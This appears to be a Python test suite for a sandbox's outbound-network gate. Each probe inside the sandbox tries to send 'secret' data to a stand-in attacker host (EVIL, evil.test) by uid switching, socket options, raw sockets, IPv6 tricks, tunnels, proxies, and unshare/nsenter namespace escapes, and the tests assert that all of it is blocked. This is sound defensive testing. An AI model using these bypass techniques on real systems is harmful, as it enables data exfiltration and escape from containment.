#!/usr/bin/env python3
# SPDX-License-Identifier: ISC

"""The battery, part A: round the fence, tried from inside of a real sandbox.
Whatever is tried, EVIL, who listens on many ports outside, must not get a byte
of it; and what is not even a request is a record all the same."""

import pathlib
import subprocess
import sys

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
from insidelib import (EVIL, EVIL_ADDRESS, EVIL_ADDRESS6, GOOD,  # noqa: E402
                       OPEN, OURS, OURS6, PRELUDE, WHO, Probe, here, none_of,
                       same, world)
from case import Cases  # noqa: E402
from daemon import WAIT_S  # noqa: E402
from runlib import PYTHON  # noqa: E402

cases = Cases()


@cases.each(WHO)
def wire_is_seen(who):
    """That all these could fail: what is allowed goes out by that wire."""
    probe = Probe(who, """
        say([plain(GOOD, 80, get(GOOD, "/in")),
             secure(GOOD, 443, get(GOOD, "/in"), GOOD)])
    """)
    same(probe.said, [200, 200])
    assert world.outside.sent(), "another way out"
    probe.has("request_closed", host=GOOD, scheme="http")
    probe.has("request_closed", host=GOOD, scheme="https")


@cases.each(WHO)
def uid_of_the_gate(who):
    """The gate's own uids go out: so be one of them."""
    probe = Probe(who, f"""
        def become(uid):
            pid = os.fork()
            if pid == 0:
                try:
                    os.setgroups([])
                except OSError:
                    pass
                try:
                    os.setresuid(uid, uid, uid)
                finally:
                    plain("{EVIL_ADDRESS}", 443, b"secret\\n")
                    plain("{EVIL_ADDRESS}", 80, get(EVIL, "/secret"))
                    udp("{EVIL_ADDRESS}", 443)
                    os._exit(0)
            os.waitpid(pid, 0)
        for uid in (0, 1, 61200, 61203, 61206, 61299, 65534):
            become(uid)
        say("done")
    """)
    probe.nothing_left()
    probe.has("request_denied", path="/secret")


@cases.each(WHO)
def socket_options(who):
    """A mark, a device, a source address that routes or rules may let by."""
    probe = Probe(who, f"""
        MARK, DEVICE, PRIORITY, FREEBIND, TRANSPARENT = 36, 25, 12, 15, 19
        said = []
        for level, option, value in (
                [(1, MARK, n) for n in (1, 2, 0x65, 0x100, -1)] +
                [(1, DEVICE, d) for d in (b"wire", b"eth0", b"lo")] +
                [(1, PRIORITY, 7), (0, FREEBIND, 1), (0, TRANSPARENT, 1)]):
            sock = socket.socket()
            sock.settimeout(10)
            try:
                sock.setsockopt(level, option, value)
                said.append(option)
            except OSError:
                pass
            with contextlib.suppress(OSError):
                sock.bind(("{OURS}", 0))
            try:
                sock.connect(("{EVIL_ADDRESS}", 443))
                sock.sendall(b"secret\\n")
                sock.recv(1)
            except OSError:
                pass
        say(said)
    """)
    assert 36 not in probe.said and 19 not in probe.said, probe.said
    probe.nothing_left()


@cases.each(WHO)
def raw_sockets(who):
    """Packets of one's own making."""
    probe = Probe(who, f"""
        said = []
        for family, kind, number in (
                (2, 3, 255), (2, 3, 6), (2, 3, 17), (2, 3, 1), (10, 3, 58),
                (10, 3, 255), (17, 3, 0x300), (17, 2, 0x300), (2, 10, 0x300),
                (16, 3, 0)):
            try:
                sock = socket.socket(family, kind, number)
                said.append([family, number])
                if family in (2, 10):
                    sock.sendto(b"\\x45" + bytes(40), ("{EVIL_ADDRESS}", 0))
                if family == 17:
                    sock.sendto(bytes(60), ("lo", 0x800))
            except OSError:
                pass
        say(said)
    """)
    # Netlink is for ip(8) to look at addresses; it changes none.
    same(probe.said, [[16, 0]])
    probe.nothing_left()


@cases.each(WHO)
def ipv6(who):
    """The other family, and the one in the clothes of the other."""
    probe = Probe(who, f"""
        hosts = ["{EVIL_ADDRESS6}", "::ffff:{EVIL_ADDRESS}", "{OURS6}",
                 "64:ff9b::b00:3", "2002:b00:3::1"]
        say([[plain(h, 80, get(f"[{{h}}]", "/6")) for h in hosts],
             [secure(h, 443, get(f"[{{h}}]", "/6"), None) for h in hosts],
             [plain(h, 22, b"SSH-2.0-x\\r\\n") for h in hosts],
             [udp(h, 443) for h in hosts],
             [plain(f"fe80::1%{{i}}", 80, get("x")) for i in ("lo", "wire")],
             udp("ff02::1%lo", 5353)])
    """)
    none_of(sum(probe.said[:3], []) + probe.said[4], [200, "SSH-2.0-evil\r\n"])
    assert not any("secret" in str(s) for s in probe.said[3]), probe.said
    probe.has("request_denied", host=EVIL_ADDRESS6, port=80)
    probe.has("request_denied", port=443)
    probe.has("connection_refused", port=22, protocol="tcp")
    probe.has("connection_refused", port=443, protocol="udp",
              host=EVIL_ADDRESS6)
    probe.nothing_left()


@cases.each(WHO)
def other_ports(who):
    """No port is special, whatever is said there, by name and by address."""
    probe = Probe(who, f"""
        said = []
        for host in (EVIL, "{EVIL_ADDRESS}"):
            for port in (22, 25, 853, 5432, 8443, 65001, 1, 65535):
                said += [plain(host, port, b"\\0secret\\n"),
                         plain(host, port, get(host, f"/{{port}}")),
                         secure(host, port, get(host, f"/{{port}}"), host
                                if host == EVIL else None)]
        say(said)
    """)
    none_of(probe.said, [200, "SSH-2.0-evil\r\n"])
    for port in (22, 5432, 8443):
        probe.has("connection_refused", host=EVIL, port=port)
        for host in (EVIL, EVIL_ADDRESS):
            probe.has("request_denied", host=host, port=port)
    probe.nothing_left()


@cases.each(WHO)
def address_is_recorded(who):
    """An address is its own name: a record of what was tried there tells
    where, though it never got as far as a Host."""
    probe = Probe(who, f"""
        for host in ("{EVIL_ADDRESS}", "{EVIL_ADDRESS6}"):
            plain(host, 22, b"\\0secret\\n")
            plain(host, 25, b"EHLO secret\\r\\n\\r\\n")
            plain(host, 443, b"CONNECT x:1 HTTP/1.1\\r\\n\\r\\n")
        say("done")
    """)
    probe.nothing_left()
    for host in (EVIL_ADDRESS, EVIL_ADDRESS6):
        probe.has("connection_refused", host=host, port=22)
        for port in (25, 443):
            assert {r["request"]["host"] for r in probe.records
                    if r.get("request") and r["request"]["port"] == port} == {
                        EVIL_ADDRESS, EVIL_ADDRESS6}, probe.brief()


@cases.each(WHO)
def other_protocols(who):
    """QUIC, other UDP, ICMP, SCTP, UDP-Lite, DCCP: stopped, and those that
    make a packet at all are recorded."""
    probe = Probe(who, f"""
        def other(kind, protocol):
            try:
                sock = socket.socket(socket.AF_INET, kind, protocol)
                sock.settimeout(2)
                sock.connect(("{EVIL_ADDRESS}", 443 if protocol != 1 else 0))
                sock.send(b"\\x08\\0\\0\\0secret!!")
                return sock.recv(10).hex()
            except OSError as e:
                return name(e)
        say([[udp(h, p) for h in (EVIL, "{EVIL_ADDRESS}", "224.0.0.251",
                                  "255.255.255.255", "{OURS}")
              for p in (443, 123, 4500, 5353, 41641)],
             other(2, 1), other(1, 132), other(5, 132), other(2, 136),
             other(6, 33)])
    """)
    assert all(s in ("EPERM", "ECONNREFUSED", "EACCES", "ENETUNREACH")
               for s in probe.said[0]), probe.said[0]
    assert all(isinstance(s, str) and s.isupper() for s in probe.said[1:]), \
        probe.said
    for host in (EVIL, EVIL_ADDRESS, OURS):
        probe.has("connection_refused", protocol="udp", host=host, port=443)
    probe.has("connection_refused", protocol="icmp", host=EVIL_ADDRESS)
    probe.nothing_left()


@cases.each(WHO)
def own_ports(who):
    """The gate's listeners, asked for directly, on every address there is."""
    probe = Probe(who, f"""
        hosts = ["127.0.0.1", "127.0.0.53", "198.18.0.1", "0.0.0.0", "::1",
                 "::", "fd65:6772:6573:7364::1", "{OURS}", "{OURS6}",
                 "localhost", GOOD]
        say([[plain(h, p, get(GOOD, "/own")) for h in hosts
              for p in (65001, 65053)],
             [udp(h, 65053) for h in ("127.0.0.1", "198.18.0.1", "{OURS}")]])
    """)
    none_of(probe.said[0], [200])
    assert all(s.isupper() for s in probe.said[1]), probe.said[1]
    probe.has("connection_refused", port=65001, host="127.0.0.1")
    probe.nothing_left()


@cases.each(WHO)
def loop(who):
    """Through the gate to itself, to its host and to its control plane, though
    every name is allowed."""
    for name, address in (("loop.test", OURS), ("lo.test", "127.0.0.1"),
                          ("any.test", "0.0.0.0"), ("synth.test",
                                                    "198.18.0.1")):
        world.zone[name] = world.static(address)
    probe = Probe(who, f"""
        said = []
        for host in ("loop.test", "lo.test", "any.test", "synth.test",
                     "localhost.", "{OURS}", "198.18.0.1", "127.0.0.2",
                     "10.0.0.1"):
            for port in (80, 15001, 65001):
                said.append(plain(host, port, get(f"{{host}}:{{port}}")))
        for host in ("{OURS6}", "::", "fd65:6772:6573:7364::1"):
            said.append(plain(host, 80, get(f"[{{host}}]")))
        said.append(plain(GOOD, 80, get("localhost:65001")))
        said.append(plain(GOOD, 80, get("127.0.0.1:65001")))
        say(said)
    """, rules=OPEN)
    none_of(probe.said, [200])
    for host in ("loop.test", "lo.test", OURS):
        record, = {r["reason"].split(":")[0] for r in probe.has(
            "request_failed", host=host, port=80)}
        same(record, "address_refused")
    probe.no_evil()


@cases.each(WHO)
def never_spliced(who):
    """What is not what a port is for: TLS on 80, HTTP on 443, SSH on 443, a
    tunnel inside of an allowed stream, a proxy's request."""
    before = len(world.tls.got()), len(world.clear.got())
    probe = Probe(who, f"""
        tunnel = (f"CONNECT {{EVIL}}:443 HTTP/1.1\\r\\nHost: {{EVIL}}:443"
                  "\\r\\n\\r\\n").encode()
        inward = tunnel.replace(EVIL.encode(), GOOD.encode())
        absolute = get(EVIL).replace(b"GET /", b"GET http://evil.test/")
        say([secure(GOOD, 80, get(f"{{GOOD}}:80", "/tls80"), GOOD),
             plain(GOOD, 443, get(f"{{GOOD}}:443", "/http443")),
             plain(GOOD, 443, b"SSH-2.0-probe\\r\\n"),
             plain(GOOD, 443, b"\\0\\x01\\x02secret"),
             plain(GOOD, 80, tunnel), plain(GOOD, 80, inward),
             secure(GOOD, 443, tunnel, GOOD), secure(GOOD, 443, inward, GOOD),
             secure(GOOD, 443, get(GOOD, "/1") + inward + b"SSH-2.0-x\\r\\n",
                    GOOD),
             plain(GOOD, 80, absolute), secure(GOOD, 443, absolute, GOOD),
             plain(GOOD, 80, absolute.replace(b"Host: evil.test",
                                              b"Host: api.good.test"))])
    """)
    said = probe.said
    none_of(said[:8] + said[9:], [200])
    same(said[0], 403)
    same(said[1], 403)
    got = world.tls.got()[before[0]:] + world.clear.got()[before[1]:]
    assert not any(word in got for word in (
        b"SSH", b"secret", b"CONNECT", b"evil", b"tls80", b"http443")), got
    probe.has("connection_refused", host=GOOD, port=443)
    probe.no_evil()


@cases.each(WHO)
def further_namespace(who):
    """A network namespace of one's own making leads nowhere."""
    probe = Probe(who, f"""
        done = subprocess.run(
            ["unshare", "-rn", "sh", "-c", '''
                ip link set lo up
                for address in {EVIL_ADDRESS} 198.18.0.1 127.0.0.1; do
                        curl -sk -m 5 https://$address/ && exit 9
                done
                exit 0'''], capture_output=True, text=True)
        back = subprocess.run(["nsenter", "-t", "1", "-n", "-m", "-U", "true"],
                              capture_output=True).returncode
        say([done.returncode, done.stderr, back])
    """)
    assert probe.said[0] == 0 and probe.said[2] != 0, probe.said
    probe.nothing_left()


@cases.each(WHO)
def proxies(who):
    """Variables that are unset or name EVIL as a proxy change nothing: what
    arrives there arrives here."""
    probe = Probe(who, f"""
        evil = "http://{EVIL_ADDRESS}:8080"
        def curl(*args, **env):
            clean = {{k: v for k, v in os.environ.items()
                     if "proxy" not in k.lower()}}
            return subprocess.run(
                ["curl", "-s", "-k", "-m", "10", "-o", "/dev/null", "-w",
                 "%{{http_code}} %{{http_connect}}", *args],
                env={{**clean, **env}}, capture_output=True,
                text=True).stdout
        say([curl("http://api.good.test/"),
             curl("https://api.good.test/"),
             curl("http://api.good.test/p", http_proxy=evil),
             curl("https://api.good.test/p", https_proxy=evil),
             curl("https://evil.test/p", ALL_PROXY=evil),
             curl("-x", "socks5h://{EVIL_ADDRESS}:8080", "http://x.test/"),
             curl("-x", "socks4a://{EVIL_ADDRESS}:443", "http://x.test/"),
             curl("-x", evil, "-p", "https://api.good.test/"),
             curl("-x", "https://evil.test:443", "https://api.good.test/")])
    """)
    same(probe.said[:2], ["200 000", "200 000"])
    assert not any("200" in s for s in probe.said[2:]), probe.said
    probe.has("connection_refused", port=8080, protocol="tcp")
    probe.no_evil()


# ---- while the rules change -------------------------------------------------

LOOP = PRELUDE + f"""
say("ready")
count = {{}}
sys.stdin.close()
while not os.path.exists("stop"):
    for said in (plain(EVIL, 80, get(EVIL, "/evil")),
                 secure(EVIL, 443, get(EVIL, "/evil"), EVIL),
                 plain("{EVIL_ADDRESS}", 22, b"SSH-2.0-x\\r\\n"),
                 udp("{EVIL_ADDRESS}", 443)):
        count[str(said)] = count.get(str(said), 0) + 1
say(count)
"""


@cases.each(("user", "root"))
def during_reloads(who):
    """Between two generations there is not a moment without rules."""
    rules = 'policy "p" { allow host "%s" }\n' % GOOD
    world.outside.sent()
    world.evil.visits = 0
    work = here.fresh(who, "work")
    with here.daemon(who, rules, world.more()) as daemon:
        process = here.spawn(who, "run", "-q", "--", PYTHON, "-c", LOOP,
                             work=work, stdin=subprocess.PIPE)
        try:
            assert process.stdout.readline() == b'"ready"\n'
            texts = [daemon.conf.read_text().replace(f'"{GOOD}"', f'"{n}"')
                     for n in (GOOD, "other.test", f"*.{GOOD}")]
            for number in range(15):
                daemon.conf.write_text(texts[number % 3])
                assert here.ask(who, "reload", daemon.socket)["ok"]
            (work / "stop").touch()
            out, err = process.communicate(timeout=WAIT_S)
        finally:
            if process.poll() is None:
                process.kill()
                process.communicate()
        assert process.returncode == 0, err
        assert "200" not in out.decode() and b"SSH-2.0-evil" not in out, out
        assert b"403" in out, out
    assert not world.evil.visits and not world.outside.sent()


cases.main()
